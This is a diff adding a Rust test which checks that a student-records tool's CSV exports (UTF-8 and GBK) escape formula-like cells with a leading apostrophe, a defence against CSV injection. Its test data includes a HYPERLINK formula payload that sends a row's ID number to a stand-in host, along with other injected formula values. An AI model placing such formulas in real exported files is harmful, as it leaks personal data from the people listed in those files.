@@ -517,3 +517,112 @@ fn a_closed_campaign_exports_its_frozen_lists_and_refuses_edits_until_reopened()
     assert_eq!(frozen.final_rows.len(), 3);
     assert_eq!(frozen.summary.final_count, 3);
 }
+
+/// The cells of a UTF-8 (BOM) or GBK CSV export, header first.
+fn read_csv(path: &str) -> Vec<Vec<String>> {
+    let bytes = std::fs::read(path).unwrap();
+    let text = match bytes.strip_prefix(b"\xEF\xBB\xBF") {
+        Some(rest) => String::from_utf8(rest.to_vec()).unwrap(),
+        None => {
+            let (text, _, bad) = encoding_rs::GBK.decode(&bytes);
+            assert!(!bad);
+            text.into_owned()
+        }
+    };
+    csv::ReaderBuilder::new()
+        .has_headers(false)
+        .from_reader(text.as_bytes())
+        .records()
+        .map(|r| r.unwrap().iter().map(String::from).collect())
+        .collect()
+}
+
+/// A name or class starting with = + - @ tab or CR would be a formula in Excel/WPS
+/// (`=HYPERLINK("http://…?"&D4, …)` sends the row's ID number away with one click):
+/// every CSV export writes such a cell with an apostrophe in front (the OWASP rule),
+/// phones and negative numbers included; other cells are untouched.
+#[test]
+fn csv_exports_write_formula_like_cells_as_text() {
+    let env = setup();
+    let nos = eligible_nos(&env);
+    let (done, missing) = (nos[0].as_str(), nos[1].as_str());
+    let link = r#"=HYPERLINK("http://x.example/?"&D4,"点我")"#;
+    let conn = rusqlite::Connection::open(&env.db).unwrap();
+    let set = |no: &str, column: &str, value: &str| {
+        let n = conn
+            .execute(
+                &format!("UPDATE student SET {column} = ?1 WHERE student_no = ?2"),
+                (value, no),
+            )
+            .unwrap();
+        assert_eq!(n, 1);
+    };
+    set(done, "name", link);
+    set(done, "class_name", "+8613800000000");
+    set(done, "college", "@SUM(A1)");
+    set(done, "major", "-5");
+    set(missing, "name", "\t=1+1");
+    set(missing, "class_name", "\r=1+1");
+    set(missing, "counselor", "-1");
+    set(missing, "major", "=1+1");
+    drop(conn);
+    env.record(&[done], "photographed", "2025-04-28");
+
+    let f_utf8 = env.path("制证.csv");
+    let f_gbk = env.path("制证-gbk.csv");
+    let e_utf8 = env.path("不予制证.csv");
+    for (list, path, encoding) in [
+        ("final", &f_utf8, "utf8"),
+        ("final", &f_gbk, "gbk"),
+        ("excluded", &e_utf8, "utf8"),
+    ] {
+        ok(&env.cli(&[
+            "export",
+            list,
+            "--out",
+            path,
+            "--today",
+            AFTER_DEADLINE,
+            "--encoding",
+            encoding,
+        ]));
+    }
+    for path in [&f_utf8, &f_gbk] {
+        let rows = read_csv(path);
+        let row = rows
+            .iter()
+            .find(|r| r[0] == done)
+            .expect("in the final list");
+        assert_eq!(row[1], format!("'{link}"), "{path}");
+        assert_eq!(row[4], "'@SUM(A1)");
+        assert_eq!(row[5], "'-5");
+        assert_eq!(row[6], "'+8613800000000");
+        assert_eq!(row[11], "2025-04-28", "a date is not a formula");
+        for r in &rows {
+            for cell in r {
+                assert!(
+                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                    "{path}: {cell:?} in {r:?}"
+                );
+            }
+        }
+    }
+    let rows = read_csv(&e_utf8);
+    assert_eq!(
+        rows[0].join(","),
+        "学号,姓名,性别,学院,专业,班级,辅导员,原因,说明"
+    );
+    let row = rows.iter().find(|r| r[0] == missing).expect("excluded");
+    assert_eq!(row[1], "'\t=1+1");
+    assert_eq!(row[4], "'=1+1");
+    assert_eq!(row[5], "'\r=1+1");
+    assert_eq!(row[6], "'-1");
+    for r in &rows {
+        for cell in r {
+            assert!(
+                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "{cell:?} in {r:?}"
+            );
+        }
+    }
+}
